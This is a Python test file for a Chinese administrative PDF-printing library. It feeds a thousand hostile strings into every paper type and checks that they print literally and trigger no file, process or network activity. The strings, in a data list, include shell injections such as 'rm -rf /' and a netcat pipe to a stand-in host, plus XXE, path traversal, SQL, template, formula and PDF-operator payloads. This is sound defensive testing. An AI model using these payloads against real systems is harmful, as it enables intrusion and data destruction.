"""A thousand hostile names and messages on papers of every kind: printed literally, and nothing is opened or started.

The papers are made in a process of their own, because an audit hook stays until the end of its process.
"""

from __future__ import annotations

import json
import os
import random
import re
import subprocess
import sys
from datetime import date
from itertools import pairwise
from pathlib import Path

import pytest

from tests.printing.invented import CREATED
from wxadmin.domain.papers import (
    AnnouncementPaper,
    Attachment,
    CaseFile,
    ClauseCitation,
    ComparisonPaper,
    EvidenceLine,
    FilePiece,
    FileSection,
    FormField,
    FormPaper,
    HistoryEntry,
    LetterPaper,
    ListColumn,
    ListPaper,
    Notice,
    Paper,
    PenaltyHistory,
    RecordPaper,
    RecordPart,
    RegulationPaper,
    Section,
    SignRow,
    SignSheet,
)
from wxadmin.domain.regulation import Node, RegulationText
from wxadmin.domain.regulation_diff import ClauseChange, Piece
from wxadmin.domain.seal import Reserved
from wxadmin.printing.papers import render_batch
from wxadmin.printing.typesetting.characters import printable
from wxadmin.printing.typesetting.faces import MISSING, chain

# Each is met again with a number of its own, so that every one of the thousand can be found on paper.
SEEDS = (
    "张三<b>x", "<img src='/etc/hostname'>", "<para><font name=Courier>", '<a href="file:///etc/passwd">点我</a>',
    "&lt;&amp;&#x41;&nbsp;", "<!-- 注 --><![CDATA[x]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hosts'>]>&e;",
    "<script>alert(1)</script>", "<svg onload=x()>", "<iframe src=//harbour.example.org>", "](http://h.example.org)", "![x](/etc/hosts)",
    "../../../../etc/passwd", "/dev/zero", "/proc/self/environ", r"C:\Windows\System32\config\SAM", r"\\harbour\share\a.txt", "CON", "NUL.txt",
    "file:///etc/shadow", "https://harbour.example.org/?q=%00%0a%2e%2e", "ftp://h.example.org:21/", "javascript:alert(1)", "data:text/html,<b>x", "//h.example.org/x",
    "=1+1", '=HYPERLINK("http://h.example.org")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", '=WEBSERVICE("http://h.example.org")',
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/hosts' %}", "{0.__class__}", "%s%s%n%x", "%(name)s", "{}{0}{name!r}", "$(reboot)", "`reboot`",
    "; rm -rf / #", "| nc h.example.org 80", "' OR 1=1 --", '"; DROP TABLE x; --', "\\input{/etc/hosts}", "\\write18{reboot}", '#import "/etc/hosts"', "@font-face{src:url(x)}",
    "(a)Tj", ") Tj ET Q (", "<41> Tj", "]TJ", "BT /F1 9 Tf", "endstream endobj", "%%EOF", "/JavaScript (x)", "<</S/URI>>", "BI ID EI", "\\050\\051", "q 9 0 0 9 0 0 cm",
    "\x00甲", "乙\x07\x08", "\x1b[31m丙", "丁\x7f\x85", "\u202e戊\u202c", "\u2067己\u2069", "庚\u200b\u200d\u200c", "\ufeff辛", "壬\u2028\u2029", "癸\u00ad",
    "\u034f\u115f\u1160\u3164\uffa0", "\ud800子", "丑\udfff", "\ud83d", "寅\ufffe\uffff", "卯\ufff9\ufffb", "辰\U000e0041\U000e007f", "巳\U000e0100",
    "\U0001f468\u200d\U0001f469", "\U0001f44d\U0001f3fd", "\U0001f1e8\U0001f1f3", "1\ufe0f\u20e3", "\U0001f3f4\U000e0067\U000e007f", "😀" * 12,
    "شعر", "שלום", "བོད", "ไทย", "갂", "\U00030000", "\U0002a6a5𠮷", "\ue000\uf8ff", "\U0010ffff", "豈", "𝐀𝒷", "ｱｶﾞ", "ǹǘ", "ﬁ½²",
    "，，，，", "（（（（", "））））", "——————", "………………", "“”‘’", "￥￥", "第第第", "　　x　　y", "a\xa0b\u2009c", "\tx\ty", "-", ".", "·",
    "x" * 300, "港" * 400, "9" * 200, "/" * 150, "港a" * 200, "-" * 120, "！" * 90, "h.example.org/" * 20,
)  # fmt: skip
COUNT = 1000
TOGETHER = 50
KINDS = len(Paper.__args__)


def hostile() -> list[str]:
    """A thousand different texts; each ends with a number in brackets."""
    r = random.Random(7)
    texts = []
    for number in range(COUNT):
        seed = SEEDS[number % len(SEEDS)]
        if number >= 2 * len(SEEDS):
            seed = seed[:40] + r.choice(SEEDS)[:40]
        texts.append(f"{seed}〔{number}〕")
    return texts


def papers(texts: list[str]) -> list[Paper]:
    """Every kind of paper with each of the texts on it, in titles, names, numbers, headings, cells and paragraphs."""
    day = date(2026, 9, 22)
    made: list[Paper] = []
    few = [texts[i : i + TOGETHER] for i in range(0, len(texts), TOGETHER)]
    for part in few:
        a, b, c, d, e, f, g, h, *_ = part
        # A paper's number is made by the program and sealed as UTF-8; half a surrogate cannot be in one.
        number = next(t for t in part if t.isascii() or t.encode("utf-8", "replace").decode() == t)
        items = tuple(Node("item", "（一）", None, text) for text in part[25:])
        articles = tuple(Node("article", f"第{i}条", None, text) for i, text in enumerate(part[:25]))
        chapter = Node("chapter", "第一章", a, "", (*articles, Node("article", "第一条", b, "", items)))
        text = RegulationText(c, (d,), (chapter,), (e,))
        extra = (Attachment(f, (g,)),)
        made += [
            RegulationPaper(a, text, b, number, d, e, day, extra),
            SignSheet(a, b, c, d, e, f, tuple(SignRow(text, text, group=a) for text in part), number, h, "group", True),
            Notice(
                number, b, c, d, e, f, tuple(EvidenceLine(text, text, text) for text in part),
                (ClauseCitation(a, b, (c, d), e),), (f, g), (h,), a, b, day,
            ),
            PenaltyHistory(a, b, c, d, tuple(HistoryEntry(text, a, b, c, d, text) for text in part), day, number),
            AnnouncementPaper(a, b, c, tuple(part), d, day, number, extra),
            FormPaper("join", a, b, c, tuple((FormField(t, t), FormField("x", t, 2, (t, "y"))) for t in part), d, e, number),
            LetterPaper(a, b, c, d, tuple(Section(text, (text,)) for text in part), e, day, number, extra),
            ListPaper(a, b, c, (d, e), (ListColumn(f), ListColumn(g, 2.0)), tuple((t, t) for t in part), day, number),
            ComparisonPaper(
                a, b, c, d, e,
                tuple(ClauseChange("changed", (t,), (t,), t, t, (Piece("removed", t), Piece("added", t))) for t in part),
                day, number,
            ),
            RecordPaper(a, b, c, tuple((t, t) for t in part), (RecordPart(d, tuple(part), len(part)),), e, day, number),
            CaseFile(
                a, b, c, tuple((t, t) for t in part[:8]),
                (
                    FilePiece(d, number, e, tuple(FileSection(t, (t,)) for t in part)),
                    FilePiece(f, g, h, (FileSection(
                        a, (b,), (ListColumn(c), ListColumn(d, 2.0)), tuple((t, t) for t in part)),), runs_on=True),
                ),
                tuple(part[:5]), b, day, number,
            ),
        ]  # fmt: skip
    return made


def shown(text: str) -> str:
    """A text as a reader of the paper gets it, without spaces."""
    letters = chain("fangsong")
    text = text.replace("ﬁ", "fi")  # pdfium spells ligatures out
    return "".join(
        c if letters.prints(c) or not letters.widths[c] else MISSING for c in "".join(printable(text).split())
    )


def run(target: Path) -> None:
    """Make all papers, and write what was opened, started or connected meanwhile to ``target``."""
    render_batch([(p, Reserved()) for p in papers([f"港{i}" for i in range(50)])], title="a", created=CREATED)
    happened: list[str] = []
    watched = re.compile(
        "open|os[.]|subprocess|socket|shutil|urllib|http|ftplib|smtplib|ctypes[.]dlopen|import|exec|pty|webbrowser"
    )
    quiet = re.compile("os[.](putenv|unsetenv)")

    def hook(event: str, arguments: tuple[object, ...]) -> None:
        if watched.match(event) and not quiet.match(event):
            happened.append(f"{event} {arguments[0] if arguments else ''}")

    made = papers(hostile())
    sys.addaudithook(hook)
    pdf = render_batch([(p, Reserved()) for p in made], title=SEEDS[0], created=CREATED)
    seen = list(happened)
    (target / "control").write_text("x", "utf-8")  # the hook must see this one
    (target / "hostile.pdf").write_bytes(pdf.pdf)
    report = {"happened": seen, "control": happened[len(seen) :], "missing": [hex(ord(c)) for c in pdf.missing]}
    (target / "report.json").write_text(json.dumps(report), "utf-8")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    code = f"from pathlib import Path; from tests.printing.test_hostile import run; run(Path({str(folder)!r}))"
    root = Path(__file__).resolve().parents[2]
    subprocess.run([sys.executable, "-c", code], cwd=root, env={**os.environ, "PYTHONPATH": str(root)}, check=True)
    return folder


def test_there_are_a_thousand() -> None:
    texts = hostile()
    assert len(set(texts)) == COUNT
    assert len({type(p) for p in papers(texts[:50])}) == KINDS


def test_nothing_is_opened_started_or_connected(made: Path) -> None:
    report = json.loads((made / "report.json").read_text("utf-8"))
    assert any("control" in event for event in report["control"])
    fonts = re.compile(r"open .*(NotoSerifSC|NotoSansSC|LXGWWenKai|HanaMinB|WxadminSymbols|NotoEmoji)[\w-]*\.ttf$")
    assert [event for event in report["happened"] if not fonts.match(event)] == []
    assert "0x30000" in report["missing"]


def test_every_text_is_printed_literally_on_every_kind(made: Path) -> None:
    import pypdfium2

    pdf = pypdfium2.PdfDocument(made / "hostile.pdf")
    pages = ["".join(page.get_textpage().get_text_range().split()) for page in pdf]
    starts = [mark.get_dest().get_index() for mark in pdf.get_toc() if mark.level == 0]
    pdf.close()
    texts = hostile()
    assert len(starts) == KINDS * len(texts) // TOGETHER
    for place, (start, end) in enumerate(pairwise([*starts, len(pages)])):
        # The only thing that stands inside a paragraph of two pages is the page number.
        text = re.sub("—[0-9]+—", "", "".join(pages[start:end]))
        at = place // KINDS * TOGETHER
        for one in map(shown, texts[at : at + TOGETHER]):
            # A long cell may go on under the table's head on the next page: a page's end tears one piece of ten.
            pieces = [one] if len(one) <= 120 else [one[i : i + 10] for i in range(0, len(one), 10)]
            torn = [piece for piece in pieces if piece not in text]
            assert len(torn) <= (end - start - 1 if len(one) > 120 else 0), (place % KINDS, ascii(one), torn)
